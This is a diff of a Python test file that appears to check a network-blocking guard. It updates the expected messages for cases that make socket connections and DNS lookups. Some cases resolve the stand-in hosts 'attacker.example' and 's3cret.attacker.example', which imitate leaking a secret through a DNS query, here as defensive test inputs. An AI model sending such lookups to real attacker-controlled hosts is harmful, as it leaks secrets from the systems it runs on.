@@ -67,8 +67,8 @@ def _connect_to_a_path() -> None:
         (_connect_to_a_path, "it connected to '/run/acme.sock'"),
         (_send_datagram, "it sent to 127.0.0.1:9"),
         (_send_message, "it sent to 127.0.0.1:9"),
-        (lambda: socket.getaddrinfo("attacker.example", 443), "it looked up attacker.example"),
-        (lambda: socket.getaddrinfo("192.0.2.1", 443), "it looked up 192.0.2.1"),
+        (lambda: socket.getaddrinfo("attacker.example", 443), "it looked up attacker.example:443"),
+        (lambda: socket.getaddrinfo("192.0.2.1", 443), "it looked up 192.0.2.1:443"),
         (lambda: socket.gethostbyname("s3cret.attacker.example"), "it looked up s3cret.attacker.example"),
     ],
 )
